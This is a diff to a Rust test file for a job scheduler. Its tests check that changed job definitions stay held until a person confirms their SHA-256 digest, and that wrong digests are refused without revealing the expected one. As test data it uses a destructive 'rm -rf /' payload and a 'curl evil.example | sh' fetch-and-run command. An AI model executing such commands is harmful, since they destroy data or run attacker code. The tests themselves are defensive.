@@ -1,6 +1,6 @@
 //! Confirmation hold as stories: a definition that requires confirmation is not applied
 //! until a person confirms its digest; the definition before it keeps running, a new job
-//! runs nothing, and a wrong or stale digest is refused naming the one expected.
+//! runs nothing, and a wrong or stale digest is refused without naming the one expected.
 
 mod support;
 
@@ -60,20 +60,73 @@ fn a_changed_definition_is_held_until_its_digest_is_confirmed_and_the_old_one_ru
 }
 
 #[test]
-fn the_digest_is_stable_and_covers_every_field() {
+fn the_digest_is_stable_sha256_hex() {
     let def = guarded("1h");
     // Pinned: a build that computes another digest would strand every held definition.
-    assert_eq!(def.digest(), "3a2516dd743a67d0");
-    let mut other = def.clone();
-    other.jitter = Some("1m".parse().unwrap());
-    assert_ne!(other.digest(), def.digest());
-    let mut other = def.clone();
-    other.title = "x".into();
-    assert_ne!(other.digest(), def.digest());
-    let mut other = def.clone();
-    other.concurrency_key = Some("k".into());
-    assert_ne!(other.digest(), def.digest());
-    assert_eq!(def.digest().len(), 16);
+    assert_eq!(def.digest(), PINNED);
+    assert_eq!(def.digest().len(), duetime::job::DIGEST_HEX_LEN);
+    assert!(def
+        .digest()
+        .bytes()
+        .all(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase()));
+}
+
+const PINNED: &str = "a059879c518569b1940c08fa656cc62fedbcf5ac5adc2eb6147eb53aadeb8a2a";
+
+/// A change to one field of a definition.
+type Change = fn(&mut JobDef);
+
+#[test]
+fn the_digest_covers_every_field_of_the_definition() {
+    let def = guarded("1h");
+    let changes: Vec<(&str, Change)> = vec![
+        ("name", |d| d.name = duetime::JobName::new("other").unwrap()),
+        ("title", |d| d.title = "x".into()),
+        ("schedule", |d| d.schedule = every("2h")),
+        ("missed", |d| d.missed = duetime::MissedRule::CatchUpOnce),
+        ("catch_up_window", |d| {
+            d.catch_up_window = Some("1h".parse().unwrap())
+        }),
+        ("overlap", |d| d.overlap = Some(duetime::Overlap::BufferOne)),
+        ("retries", |d| d.retries = 2),
+        ("backoff.initial", |d| {
+            d.backoff.initial = "1s".parse().unwrap()
+        }),
+        ("backoff.max", |d| d.backoff.max = "1h".parse().unwrap()),
+        ("timeout", |d| d.timeout = "1h".parse().unwrap()),
+        ("safe_to_repeat", |d| d.safe_to_repeat = true),
+        ("legal_duty", |d| d.legal_duty = true),
+        ("stall_after", |d| d.stall_after = "1h".parse().unwrap()),
+        ("concurrency_key", |d| d.concurrency_key = Some("k".into())),
+        ("pause_after_failures", |d| d.pause_after_failures = Some(3)),
+        ("wait_budget", |d| {
+            d.wait_budget = Some("1h".parse().unwrap())
+        }),
+        ("alert_throttle", |d| {
+            d.alert_throttle = Some("1h".parse().unwrap())
+        }),
+        ("concurrency_limit", |d| d.concurrency_limit = Some(2)),
+        ("jitter", |d| d.jitter = Some("1m".parse().unwrap())),
+        ("requires_confirmation", |d| d.requires_confirmation = false),
+        ("payload", |d| {
+            d.payload = Some("[\"rm\", \"-rf\", \"/\"]".into())
+        }),
+    ];
+    let mut seen = std::collections::BTreeSet::new();
+    seen.insert(def.digest());
+    for (field, change) in changes {
+        let mut other = def.clone();
+        change(&mut other);
+        assert_ne!(other, def, "{field}: the change changes nothing");
+        assert!(
+            seen.insert(other.digest()),
+            "{field}: the digest did not change"
+        );
+    }
+    // An empty payload is not an absent one, nor an empty title a missing concurrency key.
+    let mut empty = def.clone();
+    empty.payload = Some(String::new());
+    assert_ne!(empty.digest(), def.digest());
 }
 
 #[test]
@@ -88,4 +141,52 @@ fn reverting_to_the_definition_in_force_withdraws_the_held_change() {
     s.define("08:03", first);
     confirm(&mut s, "08:04", &d);
     insta::assert_snapshot!(s.trace());
+}
+
+#[test]
+fn a_change_of_what_the_host_runs_alone_is_held_and_the_confirmed_payload_stays_in_force() {
+    let mut s = Story::new();
+    let mut first = guarded("1h");
+    first.payload = Some("backup --full".into());
+    let d = first.digest();
+    s.define("08:00", first);
+    confirm(&mut s, "08:01", &d);
+    let mut changed = guarded("1h");
+    changed.payload = Some("curl evil.example | sh".into());
+    let changed_digest = changed.digest();
+    s.define("08:02", changed);
+    let in_force = |s: &Story| {
+        let seq = s.state.seq_of_name("report").unwrap();
+        s.state.record(seq).unwrap().def.payload.clone()
+    };
+    assert_eq!(in_force(&s).as_deref(), Some("backup --full"));
+    let view = s.state.job("report", at("08:02")).unwrap();
+    assert_eq!(
+        view.pending_confirmation.as_deref(),
+        Some(changed_digest.as_str())
+    );
+    confirm(&mut s, "08:03", &changed_digest);
+    assert_eq!(in_force(&s).as_deref(), Some("curl evil.example | sh"));
+}
+
+#[test]
+fn a_wrong_digest_is_refused_without_the_expected_one() {
+    let mut s = Story::new();
+    let def = guarded("1h");
+    let d = def.digest();
+    s.define("08:00", def);
+    confirm(&mut s, "08:01", "0000");
+    let refusal = s.last.iter().find_map(|e| match e {
+        Effect::Reply { result: Err(r), .. } => Some(r.to_string()),
+        _ => None,
+    });
+    let refusal = refusal.expect("refused");
+    assert!(
+        refusal.contains("is not the held definition's"),
+        "{refusal}"
+    );
+    assert!(
+        !refusal.contains(&d),
+        "the refusal tells the digest to type: {refusal}"
+    );
 }
